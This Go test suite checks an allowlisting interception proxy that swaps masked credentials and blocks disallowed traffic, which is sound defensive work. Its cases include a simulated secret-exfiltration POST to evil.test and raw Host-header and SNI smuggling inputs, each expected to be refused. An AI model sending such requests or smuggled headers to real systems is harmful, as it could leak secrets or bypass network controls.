package mitm

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airut-go/airut/proxy/ca"
)

// fakePolicy allows hosts in the map; a "/deny" path prefix or a method not
// listed is denied.
type fakePolicy struct{ hosts map[string]bool }

// WebSocket is allowed on example.com only.
func (p fakePolicy) Allowed(host, path, method string) Verdict {
	if !p.hosts[host] {
		return Verdict{Reason: "host not in allowlist"}
	}
	if strings.HasPrefix(path, "/deny") {
		return Verdict{Reason: "path not in allowlist"}
	}
	if method == http.MethodDelete {
		return Verdict{Reason: "method not allowed"}
	}
	return Verdict{Allowed: true, Reason: "domain " + host, WebSocket: host == "example.com"}
}

func (p fakePolicy) BlockedBody(host, path, method, reason string) []byte {
	b, _ := json.Marshal(map[string]string{"error": "blocked_by_network_allowlist", "host": host, "path": path, "method": method, "message": reason})
	return b
}

// fakeRewriter swaps a masked bearer token for a real one on example.com
// only, over HTTPS only, and strips X-Strip-Me there. "Bearer REFUSE"
// makes it refuse the request; "Bearer REDIRECT" makes it (wrongly) point
// the request at another host, which the proxy must not send.
type fakeRewriter struct{}

func (fakeRewriter) Rewrite(_ context.Context, host string, secure bool, out *http.Request) (r Rewritten) {
	if host != "example.com" {
		return r
	}
	h := out.Header
	switch h.Get("Authorization") {
	case "Bearer REFUSE":
		r.Notes = append(r.Notes, "token refresh failed")
		r.Refuse = &Refusal{Status: http.StatusBadGateway, Reason: "github-app: token refresh failed",
			Body: []byte(`{"error":"github_app_token_refresh_failed"}`)}
		return r
	case "Bearer REDIRECT":
		out.URL.Host = "allowed.test"
		out.Host = "allowed.test"
		return r
	}
	if h.Get("Authorization") == "Bearer MASKED" {
		if secure {
			h.Set("Authorization", "Bearer REAL-SECRET")
			r.Swapped = append(r.Swapped, "GH_TOKEN")
		} else {
			r.Withheld = append(r.Withheld, "GH_TOKEN")
		}
	}
	if h.Get("X-Strip-Me") != "" {
		h.Del("X-Strip-Me")
		r.Stripped = append(r.Stripped, "X-Strip-Me")
	}
	return r
}

type seen struct {
	Method, Host, URI, Auth, Strip, Body, UA string
}

type upstream struct {
	srv     *httptest.Server
	mu      sync.Mutex
	reqs    []seen
	newConn int64
}

func newUpstream(t testing.TB, useTLS bool) *upstream {
	u := &upstream{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		u.mu.Lock()
		u.reqs = append(u.reqs, seen{r.Method, r.Host, r.RequestURI, r.Header.Get("Authorization"), r.Header.Get("X-Strip-Me"), string(body), r.Header.Get("User-Agent")})
		u.mu.Unlock()
		if r.URL.Path == "/stream" {
			fl := w.(http.Flusher)
			for i := 0; i < 3; i++ {
				fmt.Fprintf(w, "chunk%d\n", i)
				fl.Flush()
			}
			return
		}
		if r.URL.Path == "/echo-upgrade" && r.Header.Get("Upgrade") == "websocket" {
			// A minimal upgraded echo: enough to see the bytes relayed.
			c, rw, err := w.(http.Hijacker).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			rw.WriteString("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
			rw.Flush()
			line, _ := rw.ReadString('\n')
			rw.WriteString("echo: " + line)
			rw.Flush()
			return
		}
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "https://elsewhere.example/", http.StatusFound)
			return
		}
		w.Header().Set("X-Upstream", "yes")
		fmt.Fprintf(w, "%s %s %s|%s", r.Method, r.Host, r.RequestURI, body)
	})
	if useTLS {
		u.srv = httptest.NewUnstartedServer(h)
		u.srv.EnableHTTP2 = false
	} else {
		u.srv = httptest.NewUnstartedServer(h)
	}
	u.srv.Config.ConnState = func(c net.Conn, s http.ConnState) {
		if s == http.StateNew {
			atomic.AddInt64(&u.newConn, 1)
		}
	}
	if useTLS {
		u.srv.StartTLS()
	} else {
		u.srv.Start()
	}
	t.Cleanup(u.srv.Close)
	return u
}

func (u *upstream) count() int {
	u.mu.Lock()
	defer u.mu.Unlock()
	return len(u.reqs)
}

func (u *upstream) last() seen {
	u.mu.Lock()
	defer u.mu.Unlock()
	return u.reqs[len(u.reqs)-1]
}

type env struct {
	ca        *ca.CA
	proxy     *Server
	plain     *upstream
	secure    *upstream
	dials     int64
	mu        sync.Mutex
	entries   []Entry
	caPool    *x509.CertPool
	cancel    context.CancelFunc
	clientTrs []*http.Transport
}

func newEnv(t testing.TB) *env {
	t.Helper()
	c, err := ca.LoadOrCreate(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	e := &env{ca: c, plain: newUpstream(t, false), secure: newUpstream(t, true)}
	e.caPool = x509.NewCertPool()
	e.caPool.AppendCertsFromPEM(c.CertPEM())
	upPool := x509.NewCertPool()
	upPool.AddCert(e.secure.srv.Certificate())
	up := &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			atomic.AddInt64(&e.dials, 1)
			_, port, _ := net.SplitHostPort(addr)
			target := e.plain.srv.Listener.Addr().String()
			if port == "443" {
				target = e.secure.srv.Listener.Addr().String()
			}
			var d net.Dialer
			return d.DialContext(ctx, network, target)
		},
		TLSClientConfig:     &tls.Config{RootCAs: upPool},
		MaxIdleConnsPerHost: 64,
	}
	ctx, cancel := context.WithCancel(context.Background())
	e.cancel = cancel
	e.proxy, err = Serve(ctx, Options{
		HTTPAddr:  "127.0.0.1:0",
		HTTPSAddr: "127.0.0.1:0",
		CA:        c,
		Policy:    fakePolicy{hosts: map[string]bool{"example.com": true, "allowed.test": true}},
		Rewriter:  fakeRewriter{},
		Upstream:  up,
		Log: func(en Entry) {
			e.mu.Lock()
			e.entries = append(e.entries, en)
			e.mu.Unlock()
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		for _, tr := range e.clientTrs {
			tr.CloseIdleConnections()
		}
		cancel()
		select {
		case <-e.proxy.Done():
		case <-time.After(5 * time.Second):
			t.Error("proxy did not stop")
		}
	})
	return e
}

// client routes every dial to the proxy, like the sandbox DNS does.
func (e *env) client() *http.Client {
	tr := &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			_, port, _ := net.SplitHostPort(addr)
			target := e.proxy.HTTPAddr().String()
			if port == "443" {
				target = e.proxy.HTTPSAddr().String()
			}
			var d net.Dialer
			return d.DialContext(ctx, network, target)
		},
		TLSClientConfig:     &tls.Config{RootCAs: e.caPool},
		MaxIdleConnsPerHost: 64,
	}
	e.clientTrs = append(e.clientTrs, tr)
	return &http.Client{Transport: tr, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func (e *env) logs() []Entry {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]Entry(nil), e.entries...)
}

// waitLogs waits until n entries exist (the entry is written after the
// response is flushed).
func (e *env) waitLogs(t *testing.T, n int) []Entry {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if l := e.logs(); len(l) >= n {
			return l
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("want %d log entries, got %d", n, len(e.logs()))
	return nil
}

func TestProxy(t *testing.T) {
	tests := []struct {
		name       string
		method     string
		url        string
		body       string
		header     map[string]string
		wantStatus int
		wantBody   string // substring
		upstream   string // "plain", "secure" or "" (must not be reached)
		wantSeen   seen   // fields checked when non-empty
		wantEntry  Entry
	}{
		{
			name: "https GET allowed", method: "GET", url: "https://example.com/repos/x?a=b%20c",
			wantStatus: 200, wantBody: "GET example.com /repos/x?a=b%20c|", upstream: "secure",
			wantSeen:  seen{Method: "GET", Host: "example.com", URI: "/repos/x?a=b%20c"},
			wantEntry: Entry{Scheme: "https", Method: "GET", Host: "example.com", Path: "/repos/x", Status: 200, Allowed: true, Reason: "domain example.com"},
		},
		{
			name: "https POST body both ways + swap", method: "POST", url: "https://example.com/graphql", body: `{"q":1}`,
			header:     map[string]string{"Authorization": "Bearer MASKED", "X-Strip-Me": "masked-aws", "User-Agent": "agent/1"},
			wantStatus: 200, wantBody: `POST example.com /graphql|{"q":1}`, upstream: "secure",
			wantSeen:  seen{Auth: "Bearer REAL-SECRET", Body: `{"q":1}`, UA: "agent/1"},
			wantEntry: Entry{Scheme: "https", Method: "POST", Host: "example.com", Path: "/graphql", Status: 200, Allowed: true, Swapped: []string{"GH_TOKEN"}, Stripped: []string{"X-Strip-Me"}},
		},
		{
			name: "no swap on other allowed host", method: "GET", url: "http://allowed.test/x",
			header:     map[string]string{"Authorization": "Bearer MASKED"},
			wantStatus: 200, upstream: "plain",
			wantSeen:  seen{Host: "allowed.test", Auth: "Bearer MASKED"},
			wantEntry: Entry{Scheme: "http", Method: "GET", Host: "allowed.test", Path: "/x", Status: 200, Allowed: true},
		},
		{
			name: "http POST allowed", method: "POST", url: "http://example.com/upload", body: strings.Repeat("z", 100000),
			wantStatus: 200, wantBody: "POST example.com /upload|zzz", upstream: "plain",
			wantEntry: Entry{Scheme: "http", Method: "POST", Host: "example.com", Path: "/upload", Status: 200, Allowed: true},
		},
		{
			name: "streamed response", method: "GET", url: "https://example.com/stream",
			wantStatus: 200, wantBody: "chunk0\nchunk1\nchunk2\n", upstream: "secure",
			wantEntry: Entry{Method: "GET", Host: "example.com", Path: "/stream", Status: 200, Allowed: true},
		},
		{
			name: "redirect not followed", method: "GET", url: "https://example.com/redirect",
			wantStatus: 302, upstream: "secure",
			wantEntry: Entry{Host: "example.com", Status: 302, Allowed: true},
		},
		{
			name: "denied host https", method: "POST", url: "https://evil.test/exfil", body: "secret-data",
			header:     map[string]string{"Authorization": "Bearer MASKED"},
			wantStatus: 403, wantBody: `"error":"blocked_by_network_allowlist"`,
			wantEntry: Entry{Scheme: "https", Method: "POST", Host: "evil.test", Path: "/exfil", Status: 403, Reason: "host not in allowlist"},
		},
		{
			name: "denied path http", method: "GET", url: "http://example.com/deny/me",
			wantStatus: 403, wantBody: `"path":"/deny/me"`,
			wantEntry: Entry{Scheme: "http", Host: "example.com", Status: 403, Reason: "path not in allowlist"},
		},
		{
			name: "denied method", method: "DELETE", url: "https://example.com/x",
			wantStatus: 403, wantBody: `"method":"DELETE"`,
			wantEntry: Entry{Method: "DELETE", Status: 403, Reason: "method not allowed"},
		},
		{
			name: "rewriter refuses", method: "POST", url: "https://example.com/graphql", body: `{"q":1}`,
			header:     map[string]string{"Authorization": "Bearer REFUSE"},
			wantStatus: 502, wantBody: `"error":"github_app_token_refresh_failed"`,
			wantEntry: Entry{Scheme: "https", Method: "POST", Host: "example.com", Path: "/graphql", Status: 502, Reason: "github-app: token refresh failed"},
		},
		{
			name: "rewriter may not change the host", method: "GET", url: "https://example.com/x",
			header:     map[string]string{"Authorization": "Bearer REDIRECT"},
			wantStatus: 500,
			wantEntry:  Entry{Scheme: "https", Method: "GET", Host: "example.com", Path: "/x", Status: 500, Reason: "rewriter changed the host"},
		},
		{
			name: "non-default port", method: "GET", url: "http://example.com:8080/x",
			wantStatus: 403,
			wantEntry:  Entry{Host: "example.com", Status: 403, Reason: "non-default port 8080"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t)
			var body io.Reader
			if tc.body != "" {
				body = strings.NewReader(tc.body)
			}
			req, _ := http.NewRequest(tc.method, tc.url, body)
			for k, v := range tc.header {
				req.Header.Set(k, v)
			}
			resp, err := e.client().Do(req)
			if err != nil {
				t.Fatal(err)
			}
			got, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != tc.wantStatus {
				t.Fatalf("status %d, want %d; body %s", resp.StatusCode, tc.wantStatus, got)
			}
			if !strings.Contains(string(got), tc.wantBody) {
				t.Fatalf("body %q lacks %q", got, tc.wantBody)
			}
			pc, sc := e.plain.count(), e.secure.count()
			switch tc.upstream {
			case "":
				if pc+sc != 0 || atomic.LoadInt64(&e.dials) != 0 {
					t.Fatalf("denied request reached upstream: plain=%d secure=%d dials=%d", pc, sc, e.dials)
				}
			case "plain", "secure":
				u := e.plain
				if tc.upstream == "secure" {
					u = e.secure
				}
				if u.count() != 1 || pc+sc != 1 {
					t.Fatalf("want exactly one request at %s upstream: plain=%d secure=%d", tc.upstream, pc, sc)
				}
				s := u.last()
				check := func(field, got, want string) {
					if want != "" && got != want {
						t.Errorf("upstream %s = %q, want %q", field, got, want)
					}
				}
				check("method", s.Method, tc.wantSeen.Method)
				check("host", s.Host, tc.wantSeen.Host)
				check("uri", s.URI, tc.wantSeen.URI)
				check("auth", s.Auth, tc.wantSeen.Auth)
				check("body", s.Body, tc.wantSeen.Body)
				check("ua", s.UA, tc.wantSeen.UA)
				if s.Strip != "" {
					t.Errorf("stripped header reached upstream: %q", s.Strip)
				}
				if tc.body != "" && s.Body != tc.body {
					t.Errorf("upstream body len %d, want %d", len(s.Body), len(tc.body))
				}
			}
			logs := e.waitLogs(t, 1)
			if tc.upstream != "" {
				u := map[string]*upstream{"plain": e.plain, "secure": e.secure}[tc.upstream]
				if got, want := logs[0].Upstream, u.srv.Listener.Addr().String(); got != want {
					t.Errorf("entry upstream %q, want the address dialled %s", got, want)
				}
			}
			if len(logs) != 1 {
				t.Fatalf("want 1 log entry, got %d: %+v", len(logs), logs)
			}
			checkEntry(t, logs[0], tc.wantEntry)
			for _, s := range append(append([]string{}, logs[0].Swapped...), logs[0].Stripped...) {
				if strings.Contains(s, "REAL-SECRET") || strings.Contains(s, "MASKED") {
					t.Fatalf("log entry leaks a value: %+v", logs[0])
				}
			}
		})
	}
}

func checkEntry(t *testing.T, got, want Entry) {
	t.Helper()
	if got.Time.IsZero() {
		t.Error("entry has no time")
	}
	str := func(f, g, w string) {
		if w != "" && g != w {
			t.Errorf("entry %s = %q, want %q (%+v)", f, g, w, got)
		}
	}
	str("scheme", got.Scheme, want.Scheme)
	str("method", got.Method, want.Method)
	str("host", got.Host, want.Host)
	str("path", got.Path, want.Path)
	str("reason", got.Reason, want.Reason)
	if got.Status != want.Status || got.Allowed != want.Allowed {
		t.Errorf("entry status/allowed = %d/%v, want %d/%v", got.Status, got.Allowed, want.Status, want.Allowed)
	}
	if fmt.Sprint(got.Swapped) != fmt.Sprint(want.Swapped) || fmt.Sprint(got.Stripped) != fmt.Sprint(want.Stripped) {
		t.Errorf("entry swapped/stripped = %v/%v, want %v/%v", got.Swapped, got.Stripped, want.Swapped, want.Stripped)
	}
}

// raw sends one raw request on conn and returns the status line and body.
func rawExchange(t *testing.T, conn net.Conn, raw string) (int, string) {
	t.Helper()
	if _, err := io.WriteString(conn, raw); err != nil {
		t.Fatal(err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(3 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestRawGuards(t *testing.T) {
	tests := []struct {
		name       string
		tls        bool
		sni        string
		raw        string
		wantStatus int
		wantReason string
	}{
		{"absolute-form host mismatch", false, "", "GET http://evil.test/x HTTP/1.1\r\nHost: example.com\r\n\r\n", 403, "host mismatch"},
		{"absolute-form host mismatch reversed", false, "", "GET http://example.com/x HTTP/1.1\r\nHost: evil.test\r\n\r\n", 403, "host mismatch"},
		{"absolute-form scheme mismatch", false, "", "GET https://example.com/x HTTP/1.1\r\nHost: example.com\r\n\r\n", 403, "host mismatch"},
		{"absolute-form matching ok", false, "", "GET http://EXAMPLE.com/x HTTP/1.1\r\nHost: example.com\r\n\r\n", 200, "domain example.com"},
		{"two Host headers", false, "", "GET /x HTTP/1.1\r\nHost: example.com\r\nHost: evil.test\r\n\r\n", 400, "malformed request"},
		{"no Host header (HTTP/1.0)", false, "", "GET /x HTTP/1.0\r\n\r\n", 403, "exactly one Host"},
		{"CONNECT on http", false, "", "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n", 403, "CONNECT"},
		{"CONNECT on https", true, "example.com", "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n", 403, "CONNECT"},
		{"SNI vs Host mismatch", true, "example.com", "GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n", 403, "host mismatch"},
		{"SNI allowed, Host other allowed", true, "allowed.test", "GET /x HTTP/1.1\r\nHost: example.com\r\n\r\n", 403, "host mismatch"},
		{"SNI match with :443", true, "example.com", "GET /x HTTP/1.1\r\nHost: example.com:443\r\n\r\n", 200, "domain example.com"},
		{"asterisk-form", false, "", "OPTIONS * HTTP/1.1\r\nHost: example.com\r\n\r\n", 403, "invalid request target"},
		{"Host with '?'", false, "", "GET /x HTTP/1.1\r\nHost: evil.test?.example.com\r\n\r\n", 403, "invalid Host"},
		{"Host with '#'", false, "", "GET /x HTTP/1.1\r\nHost: evil.test#.example.com\r\n\r\n", 403, "invalid Host"},
		{"Host with userinfo", false, "", "GET /x HTTP/1.1\r\nHost: evil.test@example.com\r\n\r\n", 403, "invalid Host"},
		{"Host with percent-encoding", false, "", "GET /x HTTP/1.1\r\nHost: example%2ecom\r\n\r\n", 403, "invalid Host"},
		{"Host with IPv6 zone", false, "", "GET /x HTTP/1.1\r\nHost: [fe80::1%25eth0]\r\n\r\n", 403, "invalid Host"},
		{"Host with a letter port", false, "", "GET /x HTTP/1.1\r\nHost: example.com:8o\r\n\r\n", 403, "invalid Host"},
		{"fragment in the target", false, "", "GET /ok#/deny HTTP/1.1\r\nHost: example.com\r\n\r\n", 403, "'#'"},
		{"bad percent-encoding", false, "", "GET /a%zz HTTP/1.1\r\nHost: example.com\r\n\r\n", 400, "malformed"},
		{"TRACE", true, "example.com", "TRACE /x HTTP/1.1\r\nHost: example.com\r\nAuthorization: Bearer MASKED\r\n\r\n", 403, "TRACE is not allowed"},
		{"TRACK", false, "", "TRACK /x HTTP/1.1\r\nHost: example.com\r\n\r\n", 403, "TRACK is not allowed"},
		{"websocket not opted into", false, "", "GET /x HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", 403, "websocket not enabled"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t)
			var conn net.Conn
			var err error
			if tc.tls {
				conn, err = tls.Dial("tcp", e.proxy.HTTPSAddr().String(), &tls.Config{ServerName: tc.sni, RootCAs: e.caPool})
			} else {
				conn, err = net.Dial("tcp", e.proxy.HTTPAddr().String())
			}
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			status, _ := rawExchange(t, conn, tc.raw)
			if status != tc.wantStatus {
				t.Fatalf("status %d, want %d", status, tc.wantStatus)
			}
			if tc.wantStatus == 403 && e.plain.count()+e.secure.count() != 0 {
				t.Fatal("guarded request reached upstream")
			}
			logs := e.waitLogs(t, 1)
			if !strings.Contains(logs[0].Reason, tc.wantReason) {
				t.Fatalf("reason %q lacks %q", logs[0].Reason, tc.wantReason)
			}
		})
	}
}

func TestTLS(t *testing.T) {
	e := newEnv(t)
	addr := e.proxy.HTTPSAddr().String()
	tests := []struct {
		name    string
		conf    *tls.Config
		wantErr bool
	}{
		{"trusting only the CA", &tls.Config{ServerName: "example.com", RootCAs: e.caPool}, false},
		{"any SNI gets a leaf", &tls.Config{ServerName: "whatever.invalid", RootCAs: e.caPool}, false},
		{"system roots reject", &tls.Config{ServerName: "example.com", RootCAs: x509.NewCertPool()}, true},
		{"no SNI: a leaf for the address dialled", &tls.Config{ServerName: "127.0.0.1", RootCAs: e.caPool}, false},
		{"no leaf for an SNI with '?'", &tls.Config{ServerName: "evil.test?.example.com", InsecureSkipVerify: true}, true},
		{"no leaf for an SNI with '#'", &tls.Config{ServerName: "evil.test#.example.com", InsecureSkipVerify: true}, true},
		{"no leaf for an SNI with '/'", &tls.Config{ServerName: "evil.test/.example.com", InsecureSkipVerify: true}, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c, err := tls.Dial("tcp", addr, tc.conf)
			if err == nil {
				err = c.Handshake()
				c.Close()
			}
			if (err != nil) != tc.wantErr {
				t.Fatalf("err = %v, wantErr %v", err, tc.wantErr)
			}
		})
	}
}

// A client that sends Expect: 100-continue gets the 100 from the proxy
// when the request is allowed (the body then reaches the upstream), and a
// prompt refusal with the connection closed when it is not.
func TestExpectContinue(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name, host string
		wantStatus int
	}{
		{"allowed", "example.com", 200},
		{"refused", "blocked.test", 403},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			conn, err := net.Dial("tcp", e.proxy.HTTPAddr().String())
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			conn.SetDeadline(time.Now().Add(5 * time.Second))
			fmt.Fprintf(conn, "POST /upload HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n", tc.host)
			br := bufio.NewReader(conn)
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatalf("first response: %v", err)
			}
			if tc.wantStatus == 200 {
				if resp.StatusCode != 100 {
					t.Fatalf("first response %d, want 100 Continue before the body", resp.StatusCode)
				}
				conn.Write([]byte("hello"))
				if resp, err = http.ReadResponse(br, nil); err != nil {
					t.Fatal(err)
				}
				if resp.StatusCode != 200 || e.plain.last().Body != "hello" {
					t.Errorf("status %d, upstream saw %+v", resp.StatusCode, e.plain.last())
				}
				return
			}
			if resp.StatusCode != tc.wantStatus || !resp.Close {
				t.Errorf("status %d close=%v, want %d and the connection closed", resp.StatusCode, resp.Close, tc.wantStatus)
			}
		})
	}
}

// A WebSocket upgrade the policy allows is passed through: the upstream's
// 101 reaches the client and bytes flow both ways; the secret swap applies
// to the upgrade request's headers like any other.
func TestUpgradeRelayed(t *testing.T) {
	e := newEnv(t)
	for _, scheme := range []string{"http", "https"} {
		t.Run(scheme, func(t *testing.T) {
			var conn net.Conn
			var err error
			if scheme == "https" {
				conn, err = tls.Dial("tcp", e.proxy.HTTPSAddr().String(), &tls.Config{ServerName: "example.com", RootCAs: e.caPool})
			} else {
				conn, err = net.Dial("tcp", e.proxy.HTTPAddr().String())
			}
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			conn.SetDeadline(time.Now().Add(5 * time.Second))
			fmt.Fprint(conn, "GET /echo-upgrade HTTP/1.1\r\nHost: example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nAuthorization: Bearer MASKED\r\n\r\n")
			br := bufio.NewReader(conn)
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != 101 || resp.Header.Get("Upgrade") != "websocket" {
				t.Fatalf("response %d %v, want 101 with Upgrade: websocket", resp.StatusCode, resp.Header)
			}
			fmt.Fprint(conn, "ping\n")
			line, err := br.ReadString('\n')
			if err != nil || line != "echo: ping\n" {
				t.Fatalf("relayed %q, %v", line, err)
			}
			up := e.plain
			if scheme == "https" {
				up = e.secure
			}
			want := "Bearer REAL-SECRET"
			if scheme == "http" {
				want = "Bearer MASKED" // never a real value over plain HTTP
			}
			if got := up.last().Auth; got != want {
				t.Errorf("upgrade request Authorization %q, want %q", got, want)
			}
		})
	}
}

func TestKeepAlive(t *testing.T) {
	for _, scheme := range []string{"http", "https"} {
		t.Run(scheme, func(t *testing.T) {
			e := newEnv(t)
			cl := e.client()
			reused := 0
			const n = 10
			for i := 0; i < n; i++ {
				trace := &httptrace.ClientTrace{GotConn: func(info httptrace.GotConnInfo) {
					if info.Reused {
						reused++
					} else {
						t.Logf("request %d: new connection", i)
					}
				}}
				method, path := "GET", fmt.Sprintf("/k/%d", i)
				var body io.Reader
				if i%3 == 1 {
					method, body = "POST", strings.NewReader("payload")
				}
				if i%4 == 3 {
					path = "/deny/x" // denied requests keep the connection too
				}
				req, _ := http.NewRequestWithContext(httptrace.WithClientTrace(context.Background(), trace), method, scheme+"://example.com"+path, body)
				resp, err := cl.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
			if reused != n-1 {
				t.Fatalf("client reused %d of %d connections", reused, n-1)
			}
			u := e.plain
			if scheme == "https" {
				u = e.secure
			}
			if c := atomic.LoadInt64(&u.newConn); c != 1 {
				t.Fatalf("upstream saw %d connections, want 1", c)
			}
			if l := e.waitLogs(t, n); len(l) != n {
				t.Fatalf("want %d log entries, got %d", n, len(l))
			}
		})
	}
}

func TestDeniedBodyDrainedOnKeepAlive(t *testing.T) {
	e := newEnv(t)
	conn, err := net.Dial("tcp", e.proxy.HTTPAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	br := bufio.NewReader(conn)
	body := strings.Repeat("x", 5000)
	fmt.Fprintf(conn, "POST /deny HTTP/1.1\r\nHost: example.com\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	fmt.Fprintf(conn, "GET /ok HTTP/1.1\r\nHost: example.com\r\n\r\n")
	for i, want := range []int{403, 200} {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != want {
			t.Fatalf("response %d: status %d, want %d", i, resp.StatusCode, want)
		}
	}
	if e.plain.count() != 1 || e.plain.last().URI != "/ok" {
		t.Fatalf("upstream saw %d requests", e.plain.count())
	}
}

func TestMalformedAndUpstreamDown(t *testing.T) {
	e := newEnv(t)
	conn, err := net.Dial("tcp", e.proxy.HTTPAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	status, _ := rawExchange(t, conn, "\x00\x01garbage\r\n\r\n")
	conn.Close()
	if status != 400 {
		t.Fatalf("status %d, want 400", status)
	}
	e.plain.srv.Close()
	resp, err := e.client().Get("http://example.com/x")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadGateway {
		t.Fatalf("status %d, want 502", resp.StatusCode)
	}
	l := e.waitLogs(t, 2)
	if l[0].Status != 400 || !strings.Contains(l[0].Reason, "malformed") {
		t.Fatalf("bad entry for malformed request %+v", l[0])
	}
	if l[1].Error == "" || !l[1].Allowed || l[1].Status != 502 {
		t.Fatalf("bad entry %+v", l[1])
	}
}

func TestServeOptionErrors(t *testing.T) {
	c, err := ca.LoadOrCreate(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	pol := fakePolicy{}
	tests := []struct {
		name string
		opts Options
	}{
		{"no policy", Options{HTTPAddr: "127.0.0.1:0"}},
		{"tls without CA", Options{HTTPSAddr: "127.0.0.1:0", Policy: pol}},
		{"no addr", Options{Policy: pol, CA: c}},
		{"bad addr", Options{HTTPAddr: "256.1.1.1:0", Policy: pol}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := Serve(context.Background(), tc.opts); err == nil {
				t.Fatal("want error")
			}
		})
	}
}

func TestChunkedUploadAndHead(t *testing.T) {
	e := newEnv(t)
	cl := e.client()
	pr, pw := io.Pipe()
	go func() {
		for i := 0; i < 5; i++ {
			fmt.Fprintf(pw, "part%d;", i)
		}
		pw.Close()
	}()
	req, _ := http.NewRequest("PUT", "https://example.com/up", pr) // unknown length → chunked
	resp, err := cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if want := "PUT example.com /up|part0;part1;part2;part3;part4;"; string(b) != want {
		t.Fatalf("body %q, want %q", b, want)
	}
	resp, err = cl.Head("https://example.com/h")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("X-Upstream") != "yes" {
		t.Fatalf("HEAD: %d %v", resp.StatusCode, resp.Header)
	}
	// The connection survived both.
	resp, err = cl.Get("https://example.com/after")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if n := atomic.LoadInt64(&e.secure.newConn); n != 1 {
		t.Fatalf("upstream connections %d, want 1", n)
	}
}
